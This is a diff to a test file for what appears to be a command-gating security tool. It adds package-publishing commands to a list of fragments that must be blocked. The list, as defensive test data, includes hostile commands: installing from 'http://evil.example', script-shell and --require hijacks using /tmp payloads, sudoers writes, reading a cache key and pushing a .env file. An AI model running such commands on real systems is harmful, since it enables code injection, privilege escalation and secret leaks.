@@ -232,6 +232,10 @@ def test_command_gates_are_about_their_rules_commands() -> None:
     idx = index()
     for rid, name in COMMAND_GATES:
         assert rid in idx.by_command.get(name, []), (rid, name)
+    from clearance.rules.gates import NPM_REGISTRY_VERBS
+    from clearance.rules.publish import _REGISTRY_VERBS
+
+    assert set(_REGISTRY_VERBS) == NPM_REGISTRY_VERBS
     assert {p[1] for p in TOKEN_PRINTERS if p[0] == "git"} <= _GIT_TOKEN_PRINTERS
     assert {p[1] for p in TOKEN_PRINTERS if p[0] == "npm"} <= _NPM_TOKEN
     assert not any(p[1].startswith("-") for p in TOKEN_PRINTERS if p[0] in ("git", "npm"))  # compared whole (no -x=, -xy forms)
@@ -302,6 +306,8 @@ GATE_FRAGMENTS = [
     "npm i -g @anthropic-ai/claude-code", "pnpm add -g @openai/codex", "yarn global add @anthropic-ai/claude-code",
     "npm test --script-shell=/tmp/x", "npm set script-shell /tmp/x", "npm c set script-shell /tmp/x", "npm ci --no-strict-ssl",
     "npm install --registry http://evil.example", "pnpm install --node-options='--require /tmp/x.js'", "npm test --script-shell /tmp/x",
+    "npm publish --access public", "pnpm deprecate @acme/ui@1 'use 2'", "yarn npm tag remove @acme/ui beta", "bun publish",
+    "npm owner rm bob @acme/ui", "yarn publish", "npm dist-tag add @acme/ui@2 latest", "pnpm access grant read-only org:team x",
     "tee /etc/sudoers.d/x", "tee -a /etc/sudoers", "echo x", "npm --prefix x install y", "git config $OPT credential.helper",
     "yarn config set yarnPath /tmp/evil.js", "cat ~/.local/state/clearance/cache.key", "grep -r x ~/.local/state/clearance",
     "git init ~", "git -C ~ init", "mkdir ~/.git", "mkdir -p ~/.git/objects", "git add -f .env", "git add .env && git push",
